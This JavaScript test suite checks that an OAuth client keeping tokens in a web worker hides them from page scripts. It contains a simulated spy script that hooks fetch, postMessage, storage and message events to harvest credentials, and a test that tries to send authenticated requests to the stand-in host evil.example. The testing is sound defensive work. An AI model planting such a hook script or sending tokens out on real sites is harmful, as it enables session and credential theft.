/** Tokens in a worker: no script of the page gets to see one, whatever it does. */

import assert from "node:assert/strict";
import { test } from "node:test";

import { Visitor } from "./lib/browser.js";
import { notes, tokens } from "./lib/tokens.js";

const { world, known, signedIn, visit } = tokens();

/** A script that is on the page first, and looks into everything that passes. */
const SPY = () => {
  /** @type {string[]} */
  const seen = [];
  Object.assign(window, { seen });
  /** @param {unknown} value @returns {string} */
  const text = (value) => {
    if (value instanceof Request) return [value.url, ...value.headers].join(" ");
    if (value instanceof Headers) return [...value].join(" ");
    if (value instanceof MessageEvent) return text(value.data);
    if (value instanceof URLSearchParams) return String(value);
    try {
      return JSON.stringify(value, (_, part) => (part instanceof Headers ? [...part] : part)) ?? "";
    } catch {
      return String(value);
    }
  };
  /** @param {any} owner @param {string} name */
  const spy = (owner, name) => {
    const real = owner[name];
    owner[name] = new Proxy(real, {
      apply(target, self, args) {
        for (const arg of args) seen.push(`${name}: ${text(arg)}`);
        const result = Reflect.apply(target, self, args);
        if (result instanceof Promise) result.then((value) => seen.push(`${name} gave: ${text(value)}`), () => {});
        else seen.push(`${name} gave: ${text(result)}`);
        return result;
      },
      construct(target, args) {
        for (const arg of args) seen.push(`${name}: ${text(arg)}`);
        return Reflect.construct(target, args);
      },
    });
  };
  for (const name of ["fetch", "postMessage", "Request", "Worker", "btoa", "atob"]) spy(window, name);
  spy(Worker.prototype, "postMessage");
  spy(MessagePort.prototype, "postMessage");
  spy(BroadcastChannel.prototype, "postMessage");
  spy(Storage.prototype, "setItem");
  spy(IDBFactory.prototype, "open");
  spy(IDBObjectStore.prototype, "put");
  spy(IDBObjectStore.prototype, "add");
  spy(Headers.prototype, "set");
  spy(Headers.prototype, "append");
  spy(XMLHttpRequest.prototype, "setRequestHeader");
  spy(JSON, "parse");
  spy(TextDecoder.prototype, "decode");
  spy(TextEncoder.prototype, "encode");
  spy(EventTarget.prototype, "dispatchEvent");
  // What arrives, however it is listened to.
  for (const owner of [Worker.prototype, BroadcastChannel.prototype, MessagePort.prototype]) {
    const found = Object.getOwnPropertyDescriptor(owner, "onmessage");
    Object.defineProperty(owner, "onmessage", {
      .../** @type {PropertyDescriptor} */ (found),
      set(listener) {
        found?.set?.call(this, (/** @type {MessageEvent} */ event) => {
          seen.push(`message: ${text(event.data)}`);
          listener.call(this, event);
        });
      },
    });
  }
  const other = new BroadcastChannel("listening");
  other.close();
};

for (const [where, wishes, found] of /** @type {const} */ ([
  ["in a worker no script of the page", {}, false],
  // The spy sees what there is to see.
  ["on the page any script", { isolate: false }, true],
])) {
  test(`with tokens ${where} can read one`, async () => {
    const visitor = await known(wishes);
    await visitor.context.addInitScript(SPY);
    /** Tokens that the server gave out, or was shown. @type {Set<string>} */
    const real = new Set();
    visitor.context.on("response", async (response) => {
      if (!response.url().endsWith("/oauth/token")) return;
      const body = await response.json().catch(() => ({}));
      for (const name of ["access_token", "refresh_token", "id_token"]) {
        if (body[name]) real.add(body[name]);
      }
    });
    // A tab of the same origin, that listens to the channels whose names are known.
    const listener = await visitor.open(`${world.site.url}/listening`);
    await listener.evaluate((server) => {
      for (const name of [`portcullis:${server} notes`, `portcullis-popup:${server}`]) {
        new BroadcastChannel(name).onmessage = () => {};
      }
    }, world.server.url);
    const page = await signedIn(visitor);
    // As if the first had expired: a refresh as well.
    let refused = 0;
    await visitor.context.route(`${world.server.url}/api/notes`, (route) => {
      refused += 1;
      const headers = { "access-control-allow-origin": world.site.url };
      return refused === 1 ? route.fulfill({ status: 401, headers }) : route.continue();
    });
    assert.equal(await notes(page, world.server.url), 200);
    assert.ok(await page.evaluate(async () => (await auth.check("notes:write", "note:1")).ok));
    assert.equal(refused, 2);
    assert.ok(real.size >= 4, `${real.size} tokens were given out`);
    const seen = [page, listener].map((tab) =>
      tab.evaluate(() => [
        .../** @type {string[]} */ (Reflect.get(window, "seen")),
        JSON.stringify([localStorage, sessionStorage, document.cookie, performance.getEntries()]),
      ]),
    );
    const all = (await Promise.all(seen)).flat().join("\n");
    assert.ok(all.length > 1_000);
    const leaked = [...real].filter((token) => all.includes(token));
    assert.equal(leaked.length > 0, found, `${leaked.length} of ${real.size} tokens were seen`);
    await page.evaluate(() => auth.signOut());
    await visitor.leave();
  });
}

visit("the worker sends a token to no origin that it was not told of", {}, async (visitor) => {
  const page = await signedIn(visitor);
  /** @type {string[]} */
  const sent = [];
  await visitor.context.route("https://evil.example/**", async (route) => {
    sent.push(JSON.stringify(await route.request().allHeaders()));
    await route.fulfill({ status: 200, headers: { "access-control-allow-origin": "*" } });
  });
  // Not through the client, and not by talking to its worker directly.
  const said = await page.evaluate(async () => {
    const blocked = await auth.fetch("https://evil.example/x").catch((error) => error.cause.reason);
    return blocked;
  });
  assert.equal(said, "network", "the page's policy");
  assert.ok(sent.every((headers) => !/bearer|dpop/i.test(headers)));
});

visit("a response is what fetch would have given, and comes as it arrives", {}, async (visitor) => {
  const page = await signedIn(visitor);
  const said = await page.evaluate(async (server) => {
    const made = await auth.fetch(`${server}/api/notes`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: new Blob([JSON.stringify({ text: "From a blob" })]),
    });
    const note = await made.json();
    const gone = await auth.fetch(new URL(`${server}/api/notes/${note.id}`), { method: "DELETE" });
    const list = await auth.fetch(new Request(`${server}/api/notes`));
    const none = await auth.fetch(`${server}/api/notes/${note.id}`, { method: "DELETE" });
    return {
      text: note.text,
      made: [made.status, made.ok, made.url, made.redirected, made.headers.get("content-type")],
      gone: [gone.status, gone.body],
      list: [list.status, list.body instanceof ReadableStream],
      none: none.status,
    };
  }, world.server.url);
  assert.deepEqual(said, {
    text: "From a blob",
    made: [201, true, `${world.server.url}/api/notes`, false, "application/json"],
    gone: [204, null],
    list: [200, true],
    none: 404,
  });
});

test("where the worker cannot be started nobody is signed in, and the page says why", async () => {
  for (const [wishes, route] of /** @type {const} */ ([
    [{}, "**/worker.js"],
    [{ worker: "/no/such/worker.js" }, ""],
    [{ worker: "https://elsewhere.example/worker.js" }, ""],
  ])) {
    const visitor = await Visitor.arrive(world.browser);
    await visitor.context.addInitScript((wishes) => Object.assign(window, { wishes }), wishes);
    if (route) await visitor.context.route(route, (route) => route.abort());
    const page = await visitor.open(world.site.url);
    const said = await page.evaluate(async () => {
      const session = await auth.ready;
      const call = await auth.signInWithRedirect();
      return [session.status, "reason" in session && session.reason, call.ok || call.reason];
    });
    assert.deepEqual(said, ["error", "worker_failed", "worker_failed"]);
    if (route) {
      await visitor.context.unroute(route);
      const again = await page.evaluate(() => auth.retry());
      assert.deepEqual(again, { status: "signedOut", reason: "anonymous" });
    }
    await visitor.leave();
  }
});
